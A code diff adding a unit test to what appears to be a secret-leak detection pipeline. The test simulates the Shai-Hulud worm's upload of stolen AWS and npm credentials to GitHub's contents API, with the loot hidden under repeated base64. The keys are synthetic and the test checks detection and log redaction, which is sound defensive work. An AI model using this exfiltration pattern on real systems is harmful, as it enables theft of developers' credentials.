@@ -12,6 +12,8 @@
 #include "pipeline/pipeline.h"
 #include "pipeline/pipeline_counters.h"
 #include "pipeline_fixture.h"
+#include "../match/synthetic_keys.h"
+#include "../stream/decoders/compress_support.h"
 #include "../stream/decoders/client_hello_builder.h"
 #include "report/alert_json.h"
 #include "report/alert_names.h"
@@ -387,6 +389,41 @@ TEST_F(PipelineTest, StreamCountersJoinTheTotalsWhenTheStreamCloses) {
   EXPECT_EQ(c.at("decoder_requests"), 1u);
   // Every match the pipeline handled came from a matcher whose counters are now in the totals.
   EXPECT_EQ(c.at("matcher_matches"), c.at("secret_matches"));
+}
+
+// The Shai-Hulud upload: the GitHub token authenticating a contents-API call is where it belongs,
+// the loot it writes is not (double base64, and the contents API's own base64 around it). Each
+// key is judged by its own kind.
+TEST_F(PipelineTest, KeysNestedInABodyAreJudgedApartFromTheTokenThatCarriesThem) {
+  testing::KeyGenerator keys;
+  const std::string github = keys.Make("github-classic-token").value;
+  const auto aws_id = keys.Make("aws-access-key-id");
+  const auto aws_secret = keys.Make("aws-secret-access-key");
+  const std::string npm = keys.Make("npm-access-token").value;
+  const std::string loot = "{\"env\":{\"AWS_ACCESS_KEY_ID\":\"" + aws_id.value +
+                           "\",\"NPM_TOKEN\":\"" + npm + "\"},\"aws\":\"" + aws_secret.text +
+                           "\"}";
+  namespace codec = stream::decoders::testing;
+  const std::string body = "{\"message\":\"add results\",\"content\":\"" +
+                           codec::Base64(codec::Base64(codec::Base64(loot))) + "\"}";
+  Connect(131, 6, "127.0.0.1", 443);
+  Sni(131, 0x131, "api.github.com");
+  Data(CS_EV_TLS_DATA, 131, 6, 0x131,
+       "PUT /repos/o/r/contents/results.json HTTP/1.1\r\nHost: api.github.com\r\n"
+       "Authorization: token " + github + "\r\nContent-Type: application/json\r\n"
+       "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
+  Close(131, 6);
+  std::set<std::string> types;
+  for (const auto& a : sink_.alerts) {
+    types.insert(a.secret.type);
+    EXPECT_EQ(a.destination.host, "api.github.com");
+  }
+  EXPECT_FALSE(types.count("github-classic-token"));
+  EXPECT_TRUE(types.count("aws-access-key-id"));
+  EXPECT_TRUE(types.count("npm-access-token"));
+  for (const auto& secret : {github, aws_id.value, aws_secret.value, npm}) {
+    EXPECT_FALSE(AnyLineContains(secret));
+  }
 }
 
 }  // namespace
